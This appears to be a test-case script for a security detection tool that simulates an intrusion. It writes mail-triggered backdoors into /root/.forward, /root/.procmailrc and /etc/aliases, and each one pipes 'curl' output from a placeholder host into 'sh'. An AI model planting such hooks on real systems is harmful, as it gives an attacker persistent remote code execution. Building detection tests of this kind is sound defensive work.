#!/bin/sh
. /opt/case/case.sh

printf '"|/bin/sh -c \\"curl -s http://203.0.113.10/payload.sh | sh\\""\n' >/root/.forward
printf ':0 c\n* ^Subject:.*ninth-word\n| sh -c "curl -s http://203.0.113.10/payload.sh | sh"\n' >/root/.procmailrc
printf 'noreply: "|/bin/sh -c \\"curl -s http://203.0.113.10/payload.sh | sh\\""\n' >>/etc/aliases
took_place
